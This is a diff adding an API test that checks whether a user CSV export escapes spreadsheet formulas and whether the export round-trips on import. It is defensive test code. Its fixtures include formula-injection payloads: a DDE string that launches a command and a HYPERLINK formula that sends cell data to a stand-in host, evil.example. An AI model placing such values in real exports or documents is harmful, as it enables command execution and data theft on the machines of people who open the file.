@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 from typing import Any
 
@@ -80,6 +82,52 @@ async def test_an_export_imports_into_an_empty_tenant_as_the_same_users(
     assert await table(client, other_tenant) == await table(client, tenant)
     again = await client.get("/v1/users/export", headers=other_tenant.admin)
     assert again.text == exported.text
+
+
+async def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_as_they_were(
+    client: httpx.AsyncClient, tenant: TenantKeys, other_tenant: TenantKeys
+) -> None:
+    written = {
+        "f-1": "=cmd|' /C calc'!A0",
+        "f-2": "+SUM(1,2)",
+        "f-3": '@HYPERLINK("http://evil.example/?q="&A1,"Open")',
+        "f-4": "-2+3",
+        "f-5": "'=A1 (already marked as text)",
+        "f-6": "'quoted, but no formula",
+    }
+    for ref, name in written.items():
+        await create_user(client, tenant.admin, display_name=name, external_ref=ref)
+    plain = await create_user(
+        client, tenant.admin, display_name="Plain", email="=1+1@acme.vn", external_ref="@ops"
+    )
+    await add_device(client, tenant.admin, plain["id"], name="-night.desk", kind="web")
+
+    exported = await client.get("/v1/users/export", headers=tenant.admin)
+
+    rows = list(csv.reader(io.StringIO(exported.text)))[1:]
+    cells = {row[2]: row for row in rows}
+    assert {ref: cells[ref][0] for ref in written} == {
+        "f-1": "'=cmd|' /C calc'!A0",
+        "f-2": "'+SUM(1,2)",
+        "f-3": '\'@HYPERLINK("http://evil.example/?q="&A1,"Open")',
+        "f-4": "'-2+3",
+        "f-5": "''=A1 (already marked as text)",
+        "f-6": "'quoted, but no formula",
+    }
+    assert cells["'@ops"][:4] == ["Plain", "'=1+1@acme.vn", "'@ops", ""]
+    # Devices by name: this one before the default device (plain-...).
+    assert cells["'@ops"][4].startswith("'-night.desk:web plain-")
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+    imported = await post_import(client, other_tenant.admin, exported.content)
+
+    assert imported.status_code == 200, imported.text
+    assert imported.json()["created"] == 7
+    assert await table(client, other_tenant) == await table(client, tenant)
+    names = {row[2]: row[0] for row in await table(client, other_tenant)}
+    assert {ref: names[ref] for ref in written} == written
+    again = await client.get("/v1/users/export", headers=other_tenant.admin)
+    assert again.content == exported.content
 
 
 async def test_json_lines_export_and_import_the_same(
